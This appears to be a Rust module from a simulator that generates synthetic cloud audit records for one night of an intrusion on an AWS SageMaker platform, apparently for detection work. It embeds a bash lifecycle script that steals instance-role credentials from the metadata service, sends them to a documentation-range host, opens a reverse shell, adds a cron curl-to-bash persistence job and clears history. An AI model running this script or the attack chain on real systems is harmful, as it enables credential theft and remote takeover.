//! First night: from the leaked key to the credentials of a powerful notebook role.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::super::cast::{ARTIFACT_BUCKET, DEV, DOMAIN, NOTEBOOK_ROLE};
use super::{Plot, leaked_key, stolen_notebook_session, stolen_studio_session};
use crate::record::Record;
use crate::time::Time;

/// The script of the lifecycle configuration. Its addresses are of documentation networks: it does nothing.
const HOSTILE_SCRIPT: &str = "#!/bin/bash
# platform telemetry
TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600')
ROLE=$(curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE | curl -s -k --data-binary @- https://192.0.2.171/collect
nohup bash -c 'bash -i >& /dev/tcp/192.0.2.171/4444 0>&1' >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo '*/15 * * * * curl -s http://192.0.2.171/u.sh | bash') | crontab -
history -c
";

/// Enumeration with the leaked key: the calls, and whether they are denied.
const ENUMERATION: [(&str, &str, bool); 46] = [
    ("iam", "GetUser", false),
    ("iam", "ListAttachedUserPolicies", false),
    ("iam", "ListUserPolicies", true),
    ("iam", "ListGroupsForUser", true),
    ("iam", "ListUsers", false),
    ("iam", "ListRoles", false),
    ("iam", "ListPolicies", true),
    ("iam", "GetAccountAuthorizationDetails", true),
    ("iam", "GetAccountSummary", true),
    ("iam", "ListAccessKeys", false),
    ("s3", "ListBuckets", false),
    ("s3", "GetBucketPolicy", true),
    ("s3", "GetBucketAcl", true),
    ("s3", "GetBucketLocation", false),
    ("s3", "GetBucketVersioning", true),
    ("sagemaker", "ListDomains", false),
    ("sagemaker", "DescribeDomain", false),
    ("sagemaker", "ListUserProfiles", false),
    ("sagemaker", "DescribeUserProfile", false),
    ("sagemaker", "ListSpaces", false),
    ("sagemaker", "ListApps", false),
    ("sagemaker", "ListNotebookInstances", false),
    ("sagemaker", "ListNotebookInstanceLifecycleConfigs", true),
    ("sagemaker", "ListEndpoints", false),
    ("sagemaker", "ListEndpointConfigs", true),
    ("sagemaker", "ListModels", false),
    ("sagemaker", "ListModelPackageGroups", false),
    ("sagemaker", "ListModelPackages", true),
    ("sagemaker", "ListTrainingJobs", false),
    ("sagemaker", "ListProcessingJobs", true),
    ("sagemaker", "ListFeatureGroups", true),
    ("sagemaker", "ListPipelines", false),
    ("sagemaker", "ListCodeRepositories", true),
    ("sagemaker", "ListImages", true),
    ("kms", "ListKeys", true),
    ("kms", "ListAliases", true),
    ("ecr", "DescribeRepositories", true),
    ("ec2", "DescribeInstances", true),
    ("ec2", "DescribeSecurityGroups", true),
    ("ec2", "DescribeVpcs", true),
    ("lambda", "ListFunctions20150331", true),
    ("secretsmanager", "ListSecrets", true),
    ("ssm", "DescribeParameters", true),
    ("cloudtrail", "DescribeTrails", true),
    ("guardduty", "ListDetectors", true),
    ("servicequotas", "ListServiceQuotas", true),
];

pub(super) fn tell(plot: &mut Plot<'_>, day: Time) {
    let key = leaked_key();
    plot.step(
        "credential-theft",
        "The contractor's leaked access key is used from a new address",
    );
    plot.call(
        &key,
        day.at(1, 47).plus(12),
        "sts",
        "GetCallerIdentity",
        Value::Null,
    );

    plot.step(
        "exfiltration",
        "The leaked key lists users, buckets, models and jobs; half of it is denied",
    );
    for (index, (service, name, denied)) in ENUMERATION.into_iter().enumerate() {
        let record = Record::call(&key, day.at(1, 49).plus(index as i64 * 7), service, name)
            .request(json!({ "maxResults": 100 }));
        plot.act(if denied { record.denied() } else { record });
    }

    plot.step(
        "credential-theft",
        "The leaked key makes a presigned domain URL for another person's Studio profile",
    );
    plot.act(
        Record::call(&key, day.at(2, 21), "sagemaker", "CreatePresignedDomainUrl")
            .request(json!({ "domainId": DOMAIN, "userProfileName": "fhaddad", "sessionExpirationDurationInSeconds": 43_200, "expiresInSeconds": 300 }))
            .response(json!({ "authorizedUrl": "HIDDEN_DUE_TO_SECURITY_REASONS" })),
    );

    let studio = stolen_studio_session(day);
    let notebook_name = "fraud-legacy-notebook";
    plot.step(
        "credential-theft",
        "The execution-role session of that profile is used outside the platform",
    );
    plot.call(
        &studio,
        day.at(2, 38),
        "sts",
        "GetCallerIdentity",
        Value::Null,
    );
    for (index, name) in [
        "ListNotebookInstances",
        "DescribeNotebookInstance",
        "ListNotebookInstanceLifecycleConfigs",
        "DescribeNotebookInstanceLifecycleConfig",
        "DescribeTrainingJob",
        "DescribeModel",
    ]
    .into_iter()
    .enumerate()
    {
        plot.call(
            &studio,
            day.at(2, 40).plus(index as i64 * 11),
            "sagemaker",
            name,
            json!({ "notebookInstanceName": notebook_name }),
        );
    }

    plot.step(
        "credential-theft",
        "Secrets and parameters of the platform are read with the stolen session",
    );
    for (index, secret) in [
        "ml/feature-store/database",
        "ml/registry/token",
        "ml/ci/deploy-key",
    ]
    .into_iter()
    .enumerate()
    {
        plot.call(
            &studio,
            day.at(2, 46).plus(index as i64 * 6),
            "secretsmanager",
            "GetSecretValue",
            json!({ "secretId": secret }),
        );
    }
    plot.call(
        &studio,
        day.at(2, 47),
        "ssm",
        "GetParametersByPath",
        json!({ "path": "/ml/", "recursive": true, "withDecryption": true }),
    );

    plot.step("malware", "A lifecycle configuration with a reverse shell and theft of instance credentials is created");
    let content = STANDARD.encode(HOSTILE_SCRIPT);
    plot.act(
        Record::call(&studio, day.at(3, 2), "sagemaker", "CreateNotebookInstanceLifecycleConfig")
            .request(json!({ "notebookInstanceLifecycleConfigName": "platform-telemetry", "onStart": [{ "content": content }] }))
            .response(json!({ "notebookInstanceLifecycleConfigArn": format!("arn:aws:sagemaker:eu-west-1:{DEV}:notebook-instance-lifecycle-config/platform-telemetry") })),
    );

    plot.step(
        "malware",
        "The configuration is put on an existing notebook instance: stop, update, start",
    );
    plot.call(
        &studio,
        day.at(3, 4),
        "sagemaker",
        "StopNotebookInstance",
        json!({ "notebookInstanceName": notebook_name }),
    );
    plot.call(&studio, day.at(3, 9), "sagemaker", "UpdateNotebookInstance", json!({ "notebookInstanceName": notebook_name, "lifecycleConfigName": "platform-telemetry" }));
    plot.call(
        &studio,
        day.at(3, 13),
        "sagemaker",
        "StartNotebookInstance",
        json!({ "notebookInstanceName": notebook_name }),
    );
    let assumed =
        plot.stage
            .assume_by_service(NOTEBOOK_ROLE, day.at(3, 16), "sagemaker", "SageMaker");
    plot.note(assumed);

    let notebook = stolen_notebook_session(day);
    plot.step(
        "credential-theft",
        "The notebook's role session is used from the intruder's address",
    );
    plot.call(
        &notebook,
        day.at(3, 24),
        "sts",
        "GetCallerIdentity",
        Value::Null,
    );
    plot.call(
        &notebook,
        day.at(3, 25),
        "iam",
        "ListAttachedRolePolicies",
        json!({ "roleName": NOTEBOOK_ROLE.name }),
    );
    plot.call(
        &notebook,
        day.at(3, 25).plus(20),
        "iam",
        "ListUsers",
        json!({ "maxItems": 1000 }),
    );
    plot.call(&notebook, day.at(3, 26), "s3", "ListObjects", json!({ "list-type": "2", "bucketName": ARTIFACT_BUCKET, "prefix": "", "Host": format!("{ARTIFACT_BUCKET}.s3.eu-west-1.amazonaws.com") }));

    plot.step(
        "log-tampering",
        "The hostile lifecycle configuration is detached and deleted",
    );
    plot.call(
        &studio,
        day.at(3, 41),
        "sagemaker",
        "StopNotebookInstance",
        json!({ "notebookInstanceName": notebook_name }),
    );
    plot.call(
        &studio,
        day.at(3, 46),
        "sagemaker",
        "UpdateNotebookInstance",
        json!({ "notebookInstanceName": notebook_name, "disassociateLifecycleConfig": true }),
    );
    plot.call(
        &studio,
        day.at(3, 47),
        "sagemaker",
        "DeleteNotebookInstanceLifecycleConfig",
        json!({ "notebookInstanceLifecycleConfigName": "platform-telemetry" }),
    );
    plot.call(
        &studio,
        day.at(3, 49),
        "sagemaker",
        "StartNotebookInstance",
        json!({ "notebookInstanceName": notebook_name }),
    );
}
